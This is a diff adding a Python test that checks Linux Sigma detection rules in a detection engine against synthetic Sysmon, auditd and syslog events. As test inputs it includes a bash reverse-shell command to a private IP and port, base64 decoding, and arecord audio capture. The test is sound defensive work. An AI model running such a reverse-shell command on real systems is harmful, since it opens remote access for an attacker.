@@ -104,3 +104,45 @@ def test_unsupported_log_sources_say_why(kw: dict[str, str], words: list[str]) -
         map_logsource(ls(**kw))
     for word in words:
         assert word in info.value.reason
+
+
+LINUX = Path("../shared/data/sigma/rules/linux")
+
+
+def _linux_engine():  # type: ignore[no-untyped-def]
+    from vigil.engine import Engine
+
+    engine = Engine()
+    engine.load_path(LINUX)
+    return engine
+
+
+def test_linux_rules_fire_on_the_events_vigil_produces() -> None:
+    engine = _linux_engine()
+
+    def sysmon(eid: int, **data: str) -> dict[str, object]:
+        return {
+            "Event": {"System": {"Channel": LINUX_SYSMON_CHANNEL, "EventID": str(eid)}, "EventData": data}
+        }
+
+    base64 = "e2072cab-8c9a-459b-b63c-40ae79e27031"  # proc_creation_lnx_base64_decode
+    assert base64 in engine.match(sysmon(1, Image="/usr/bin/base64", CommandLine="base64 -d x")).sigma_ids
+    assert base64 not in engine.match(sysmon(1, Image="/usr/bin/base64", CommandLine="base64 x")).sigma_ids
+    # Same fields on another EventID (a network connection) is not a process creation.
+    assert base64 not in engine.match(sysmon(3, Image="/usr/bin/base64", CommandLine="base64 -d x")).sigma_ids
+
+    # auditd rules read one audit record per event on the Linux-Audit channel.
+    def audit(**data: str) -> dict[str, object]:
+        return {"Event": {"System": {"Channel": AUDIT_CHANNEL}, "EventData": data}}
+
+    arecord = "a7af2487-9c2f-42e4-9bb9-ff961f0561d5"  # lnx_auditd_audio_capture
+    assert arecord in engine.match(audit(type="EXECVE", a0="arecord", a1="-vv", a2="-fdat")).sigma_ids
+    assert arecord not in engine.match(audit(type="EXECVE", a0="arecord", a1="-l")).sigma_ids
+
+    # Syslog keyword rules search the line.
+    def syslog(message: str) -> dict[str, object]:
+        return {"Event": {"System": {"Channel": SYSLOG_CHANNEL}, "EventData": {"Message": message}}}
+
+    rev_shell = "738d9bcf-6999-4fdb-b4ac-3033037db8ab"  # lnx_shell_susp_rev_shells
+    assert rev_shell in engine.match(syslog("sh[12]: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")).sigma_ids
+    assert rev_shell not in engine.match(syslog("sshd[1]: Accepted publickey for bob")).sigma_ids
